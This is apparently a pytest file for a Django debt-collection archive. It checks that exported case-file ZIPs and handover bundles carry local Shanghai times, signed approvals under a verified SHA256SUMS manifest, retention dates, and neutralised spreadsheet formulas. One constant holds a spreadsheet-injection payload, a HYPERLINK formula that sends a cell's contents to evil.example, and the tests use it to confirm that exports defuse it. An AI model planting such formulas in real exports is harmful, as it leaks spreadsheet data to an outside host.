"""Exports an auditor can trust (issue 16 part 3; rules R8.3, R8.15, R7.15): times in
Asia/Shanghai, formula-like text neutralised, and the approval decisions and signatures inside
the verified manifest of the case-file ZIP and the handover bundle."""
import csv
import io
import json
import shutil
import subprocess
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse

from approvals.flows import VisitFlow
from approvals.models import ChainProcess, Decision
from approvals.signatures import sign
from documents import services
from documents.catalogue import DocType
from documents.models import RetentionSettings
from documents.retention import closed_on
from tests import factories as f
from workflows import exports

from . import samples

SH = ZoneInfo("Asia/Shanghai")
EVIL = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")"


def _zip(response):
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def _csv(zf, name):
    return list(csv.DictReader(io.StringIO(zf.read(name).decode("utf-8-sig"))))


def _sha256sum_ok(folder):
    if not shutil.which("sha256sum"):
        pytest.skip("sha256sum not installed")
    result = subprocess.run(["sha256sum", "--strict", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, text=True)
    return result.returncode == 0


@pytest.fixture
def debt_open(org, people):
    return f.debt(org["a"], people["handler"])


@pytest.fixture
def signed_debt(debt, people):
    """A debt with a document uploaded and an approval signed at 01:30 Shanghai (17:30 UTC the
    day before), and a rejection with a formula-like reason."""
    with time_machine.travel(datetime(2026, 3, 2, 1, 30, tzinfo=SH), tick=False):
        services.attach(debt, DocType.CONTRACT, samples.pdf(), people["handler"], title=EVIL)
        process = ChainProcess.objects.create(flow_class=VisitFlow, debt=debt, chain="visit",
                                              requested_by=people["handler"])
        approved = Decision.objects.create(debt=debt, chain="visit", step="head_approval", step_title="组长审批",
                                           decision="approve", by=people["committee_head"], comment="同意上门",
                                           process=process)
        sign(approved)
        Decision.objects.create(debt=debt, chain="visit", step="head_approval", step_title="组长审批",
                                decision="reject", by=people["committee"], comment="-1 万元未核实 @财务",
                                process=process)
    return debt


def test_helper_neutralises_every_formula_start():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert exports.csv_cell(text) == "'" + text
    for value in ("1-1", "a=b", "合同", 12, None):
        assert exports.csv_cell(value) == value
    assert exports.local_iso(datetime(2026, 3, 1, 17, 30, tzinfo=ZoneInfo("UTC"))) == "2026-03-02T01:30:00+08:00"


def test_case_file_zip_times_are_local_and_approvals_are_inside_the_verified_manifest(
        client, signed_debt, people, tmp_path):
    client.force_login(people["auditor"])
    response = client.get(reverse("documents:export", kwargs={"debt_id": signed_debt.pk}))
    with _zip(response) as zf:
        zf.extractall(tmp_path)
        manifest = json.loads(zf.read("manifest.json"))
        docs = _csv(zf, "manifest.csv")
        approvals = _csv(zf, "approvals.csv")
        sums = zf.read("SHA256SUMS").decode()
    # the upload time is the Shanghai day shown in the UI, not 2026-03-01 UTC
    assert manifest["documents"][0]["uploaded_at"] == "2026-03-02T01:30:00+08:00"
    assert docs[0]["uploaded_at"] == "2026-03-02T01:30:00+08:00"
    assert manifest["exported_at"].endswith("+08:00")
    # the title is kept exactly in the JSON and neutralised in the CSV
    assert manifest["documents"][0]["title"] == EVIL and docs[0]["title"] == "'" + EVIL
    # decisions and signatures: who, when, decision, reason, what the signature covered
    signed = manifest["approvals"][0]
    assert (signed["by"], signed["decision"], signed["reason"]) == ("committee_head", "approve", "同意上门")
    assert signed["at"] == signed["signed_at"] == "2026-03-02T01:30:00+08:00"
    assert signed["signed"] is True and signed["signature_verifies"] is True and len(signed["signature_sha256"]) == 64
    assert [c["doc_type"] for c in signed["covered_documents"]] == ["contract"]
    rejected = manifest["approvals"][1]
    assert rejected["signed"] is False and rejected["reason"] == "-1 万元未核实 @财务"
    assert approvals[0]["signer"] == "committee_head" and approvals[0]["chain_label"] == "上门催收计划"
    assert signed["covered_documents"][0]["sha256"] in approvals[0]["covered_documents"]
    assert approvals[1]["reason"] == "'-1 万元未核实 @财务"
    # both are under SHA256SUMS, and the folder verifies
    assert "  approvals.csv\n" in sums and "  manifest.json\n" in sums
    assert _sha256sum_ok(tmp_path)


def test_handover_bundle_carries_each_case_files_approvals(signed_debt, tmp_path):
    out = tmp_path / "bundle.zip"
    call_command("export_archive", str(out), unit="A", verbosity=0)
    folder = tmp_path / "x"
    with zipfile.ZipFile(out) as zf:
        zf.extractall(folder)
        rows = _csv(zf, f"A/{signed_debt.code}/approvals.csv")
        top = zf.read("SHA256SUMS").decode()
    assert [r["decision"] for r in rows] == ["approve", "reject"]
    assert f"A/{signed_debt.code}/approvals.csv" in top
    assert _sha256sum_ok(folder)


def test_seal_manifest_times_are_local(debt, people):
    with time_machine.travel(datetime(2026, 3, 2, 1, 30, tzinfo=SH), tick=False):
        text, _digest = services.build_manifest(debt, services.case_file_for(debt), by=people["committee"],
                                                sealed_at=datetime(2026, 3, 1, 17, 30, tzinfo=ZoneInfo("UTC")))
    assert json.loads(text)["sealed_at"] == "2026-03-02T01:30:00+08:00"


def test_retention_shown_on_the_case_file_and_listed_in_the_bundle(client, sealed_debt, debt_open, people,
                                                                    tmp_path):
    """Rule R7.14: collection material 5 years after closing, vouchers 30 years from the end of
    the closing year; configurable; the handover bundle's index lists them."""
    closed = closed_on(sealed_debt)
    assert closed is not None
    client.force_login(people["committee"])
    page = client.get(reverse("archive:case_file", kwargs={"debt_id": sealed_debt.pk})).content.decode()
    assert f"保管 5 年，至 {closed.replace(year=closed.year + 5):%Y-%m-%d}" in page
    assert f"会计凭证（1 份）：保管 30 年，至 {closed.year + 30}-12-31" in page
    open_page = client.get(reverse("archive:case_file", kwargs={"debt_id": debt_open.pk})).content.decode()
    assert "结案（结清或以物抵债）后起算" in open_page
    settings = RetentionSettings.load()
    settings.collection_years = 10
    settings.save()
    out = tmp_path / "bundle.zip"
    call_command("export_archive", str(out), unit="A", verbosity=0)
    with zipfile.ZipFile(out) as zf:
        index = {r["debt"]: r for r in _csv(zf, "index.csv")}
        manifest = json.loads(zf.read(f"A/{sealed_debt.code}/manifest.json"))
    row = index[sealed_debt.code]
    assert row["closed_on"] == closed.isoformat() and row["collection_retention_years"] == "10"
    assert row["collection_retention_until"] == closed.replace(year=closed.year + 10).isoformat()
    assert row["voucher_retention_until"] == f"{closed.year + 30}-12-31"
    assert index[debt_open.code]["collection_retention_until"] == ""
    assert {r["kind"]: r["years"] for r in manifest["retention"]} == {"collection": 10, "vouchers": 30}


def test_retention_settings_refuse_unknown_document_types():
    settings = RetentionSettings(voucher_types="original_vouchers,bogus")
    with pytest.raises(ValidationError) as err:
        settings.full_clean()
    assert "bogus" in str(err.value)
